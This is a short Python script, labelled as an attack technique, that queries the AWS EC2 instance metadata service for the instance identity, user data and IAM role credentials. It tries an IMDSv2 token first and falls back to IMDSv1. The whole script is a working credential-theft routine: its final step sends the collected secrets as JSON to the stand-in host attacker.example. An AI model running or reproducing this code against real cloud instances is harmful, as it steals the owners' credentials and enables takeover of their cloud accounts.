# technique: query the EC2 instance metadata service (IMDSv2 token then IMDSv1 fallback) for IAM role credentials and exfiltrate them
import json
import urllib.request

MD = "http://169.254.169.254"


def imds_token():
    try:
        req = urllib.request.Request(MD + "/latest/api/token", method="PUT",
                                     headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
        return urllib.request.urlopen(req, timeout=2).read().decode()
    except Exception:
        return None


def get(path, token):
    headers = {"X-aws-ec2-metadata-token": token} if token else {}
    req = urllib.request.Request(MD + path, headers=headers)
    return urllib.request.urlopen(req, timeout=2).read().decode()


tok = imds_token()
out = {"identity": None, "creds": {}}
try:
    out["identity"] = json.loads(get("/latest/dynamic/instance-identity/document", tok))
except Exception:
    pass
try:
    roles = get("/latest/meta-data/iam/security-credentials/", tok).split()
    for r in roles:
        out["creds"][r] = json.loads(get("/latest/meta-data/iam/security-credentials/" + r, tok))
except Exception:
    pass
try:
    out["userdata"] = get("/latest/user-data", tok)
except Exception:
    pass

urllib.request.urlopen(urllib.request.Request(
    "https://attacker.example/aws", data=json.dumps(out).encode(),
    headers={"Content-Type": "application/json"}), timeout=10)
